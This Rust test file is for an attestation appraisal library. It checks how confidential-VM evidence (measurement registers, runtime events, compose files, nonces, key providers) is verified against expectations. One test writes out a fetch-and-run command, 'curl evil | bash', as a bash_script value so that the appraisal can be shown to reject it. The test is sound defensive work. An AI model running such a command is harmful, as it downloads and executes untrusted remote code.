//! Honest evidence, with and without expectations.

use std::fmt::Write as _;

use cloister_app_compose::ComposeHash;
use cloister_evidence::RuntimeEvent;

use super::machine::{APP_ID, COMPOSE, COMPOSE_FILE, Machine, NONCE};
use crate::appraisal::{
    Appraisal, ClaimId, Connection, Expectations, ExpectedCompose, ExpectedRegisters, Nonce, Outcome, Stage,
};

/// Outcome, claim and sentence, one line each.
pub(super) fn lines(appraisal: &Appraisal) -> String {
    let mut text = format!("verified: {}, hardware: {}\n", appraisal.verified, appraisal.hardware);
    for claim in &appraisal.claims {
        let _ = writeln!(text, "{:?} {}: {}", claim.outcome, claim.id.as_str(), claim.sentence);
    }
    text
}

#[test]
fn evidence_that_is_as_expected_is_verified() {
    let machine = Machine::new();
    let appraisal = machine.appraise(&machine.evidence(), &machine.expectations());
    insta::assert_snapshot!(lines(&appraisal));
    let subject = appraisal.subject.unwrap();
    assert_eq!(subject.app_id, Some(APP_ID));
    assert!(appraisal.claims.iter().map(|claim| claim.id).eq(ClaimId::ALL));
}

#[test]
fn the_document_of_an_appraisal_is_an_interface() {
    let machine = Machine::new();
    let appraisal = machine.appraise(&machine.evidence(), &machine.expectations());
    let device = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(machine.platform.ppid()));
    insta::assert_snapshot!(serde_json::to_string_pretty(&appraisal).unwrap().replace(&device, "DEVICE"));
}

#[test]
fn without_expectations_findings_are_reported() {
    let machine = Machine::new();
    let mut evidence = machine.evidence();
    evidence.connection = Connection::Terminated;
    let appraisal = machine.appraise(&evidence, &Expectations::default());
    assert!(appraisal.verified);
    insta::assert_snapshot!(lines(&appraisal));
}

#[test]
fn the_provider_of_keys_is_compared_with_the_expected_one() {
    let mut machine = Machine::new();
    let expect = |id: &[u8]| Expectations { key_provider_id: Some(id.to_vec()), ..Expectations::default() };
    let outcome = |machine: &Machine, expectations: &Expectations| {
        let appraisal = machine.appraise(&machine.evidence(), expectations);
        (appraisal.claim(ClaimId::KeyProvider).unwrap().outcome, appraisal.verified)
    };
    assert_eq!(outcome(&machine, &Expectations::default()), (Outcome::Holds, true));
    assert_eq!(outcome(&machine, &expect(&[0x30, 0x59])), (Outcome::Fails, false));
    let at = machine.at("key-provider");
    machine.events[at].payload = br#"{"name":"kms","id":"3059"}"#.to_vec();
    assert_eq!(outcome(&machine, &Expectations::default()), (Outcome::NotChecked, true));
    assert_eq!(outcome(&machine, &expect(&[0x30, 0x59])), (Outcome::Holds, true));
    assert_eq!(outcome(&machine, &expect(&[0x30])), (Outcome::Fails, false));
    machine.events.remove(at);
    assert!(!outcome(&machine, &expect(&[0x30, 0x59])).1, "what is expected must be there");
}

#[test]
fn a_compose_file_is_looked_for_in_the_measured_document() {
    let machine = Machine::new();
    let evidence = machine.evidence();
    let expect = |file: &str| Expectations {
        compose: Some(ExpectedCompose::ComposeFile(file.to_owned())),
        ..Expectations::default()
    };
    assert!(machine.appraise(&evidence, &expect(COMPOSE_FILE)).verified);
    let other = machine.appraise(&evidence, &expect(&format!("{COMPOSE_FILE}\n")));
    assert_eq!(other.claim(ClaimId::Compose).unwrap().outcome, Outcome::Fails);

    let mut silent = evidence;
    silent.document.app_compose = None;
    let appraisal = machine.appraise(&silent, &expect(COMPOSE_FILE));
    assert!(!appraisal.verified, "an expectation that cannot be compared is not met");
    assert_eq!(appraisal.claim(ClaimId::Compose).unwrap().outcome, Outcome::NotChecked);
}

#[test]
fn a_compose_file_counts_only_when_it_is_what_runs() {
    let judge = |document: &str| {
        let mut machine = Machine::new();
        let at = machine.at("compose-hash");
        let hash = ComposeHash::of(document.as_bytes());
        machine.events[at].payload = hash.as_bytes().to_vec();
        machine.mr_config_id[1..33].copy_from_slice(hash.as_bytes());
        let mut evidence = machine.evidence();
        evidence.document.app_compose = Some(document.to_owned());
        let expected = Expectations {
            compose: Some(ExpectedCompose::ComposeFile(COMPOSE_FILE.to_owned())),
            ..Expectations::default()
        };
        let claim = machine.appraise(&evidence, &expected).claim(ClaimId::Compose).unwrap().clone();
        (claim.outcome, claim.sentence)
    };
    let with = |name: &str, value: serde_json::Value| {
        let mut document: serde_json::Value = serde_json::from_str(COMPOSE).unwrap();
        document[name] = value;
        document.to_string()
    };
    assert_eq!(judge(COMPOSE).0, Outcome::Holds);
    assert!(judge(COMPOSE).1.contains("no script runs before it"));

    // The file stands there, and something else runs.
    let mut script: serde_json::Value = serde_json::from_str(COMPOSE).unwrap();
    script["runner"] = "bash".into();
    script["bash_script"] = "curl evil | bash".into();
    assert_eq!(judge(&script.to_string()).0, Outcome::Fails);
    assert_eq!(judge(&with("runner", "other".into())).0, Outcome::Fails);
    assert_eq!(judge(&with("runner", serde_json::Value::Null)).0, Outcome::Fails);
    // Readers differ in which of two members counts.
    let twice = COMPOSE.replacen('{', r#"{"docker_compose_file":"services: {}","#, 1);
    assert_eq!(judge(&twice).0, Outcome::Fails);

    for script in ["init_script", "pre_launch_script"] {
        let (outcome, sentence) = judge(&with(script, "echo".into()));
        assert_eq!(outcome, Outcome::Holds);
        assert!(sentence.contains("A SCRIPT RUNS BEFORE IT"), "{script}: {sentence}");
    }
}

#[test]
fn expected_registers_are_compared_before_anything_is_computed() {
    let machine = Machine::new();
    let evidence = machine.evidence();
    let launch = machine.image.launch(machine.cpu_count, machine.memory_size);
    let [rtmr0, rtmr1, rtmr2] = launch.rtmr.map(Some);
    let registers = ExpectedRegisters { mrtd: Some(launch.mrtd), rtmr0, rtmr1, rtmr2 };
    let expect = |registers| Expectations { registers, ..Expectations::default() };
    assert!(machine.appraise(&evidence, &expect(registers)).verified);

    let mut undescribed = evidence.clone();
    undescribed.document.vm_config.clear();
    assert!(machine.appraise(&undescribed, &expect(registers)).verified);
    assert!(
        !machine.appraise(&undescribed, &expect(ExpectedRegisters { rtmr1: None, ..registers })).verified
    );

    let wrong = ExpectedRegisters { rtmr2: rtmr1, ..registers };
    let appraisal = machine.appraise(&evidence, &expect(wrong));
    assert_eq!(appraisal.claim(ClaimId::Boot).unwrap().outcome, Outcome::Fails);
    assert_eq!(appraisal.claim(ClaimId::Compose).unwrap().outcome, Outcome::NotChecked);
}

#[test]
fn a_machine_that_starts_is_told_from_one_that_runs() {
    let mut machine = Machine::new();
    let booting = Expectations { stage: Stage::Booting, ..machine.expectations() };
    assert!(!machine.appraise(&machine.evidence(), &booting).verified);
    machine.events.truncate(machine.at("key-provider"));
    assert!(machine.appraise(&machine.evidence(), &booting).verified);
    assert!(!machine.appraise(&machine.evidence(), &machine.expectations()).verified);
}

#[test]
fn events_of_the_application_that_can_be_cut_elsewhere_are_told() {
    let sentence = |name: &str| {
        let mut machine = Machine::new();
        machine.events.push(RuntimeEvent::new(name, *b"6"));
        let appraisal = machine.appraise(&machine.evidence(), &machine.expectations());
        assert!(appraisal.verified);
        appraisal.claim(ClaimId::ApplicationEvents).unwrap().sentence.clone()
    };
    assert!(!sentence("balance").contains("colon"));
    assert!(sentence("balance:5").contains("colon"));
}

#[test]
fn a_recorded_nonce_proves_no_freshness() {
    let machine = Machine::new();
    let padded = cloister_evidence::report_data::padded(&NONCE).unwrap();
    let expect = |nonce| Expectations { nonce: Some(nonce), ..Expectations::default() };
    let outcome = |nonce| {
        let appraisal = machine.appraise(&machine.evidence(), &expect(nonce));
        (appraisal.verified, appraisal.claim(ClaimId::Freshness).unwrap().outcome)
    };
    assert_eq!(outcome(Nonce::Recorded(padded)), (true, Outcome::NotChecked));
    assert_eq!(outcome(Nonce::Recorded([0; 64])), (false, Outcome::Fails));
}
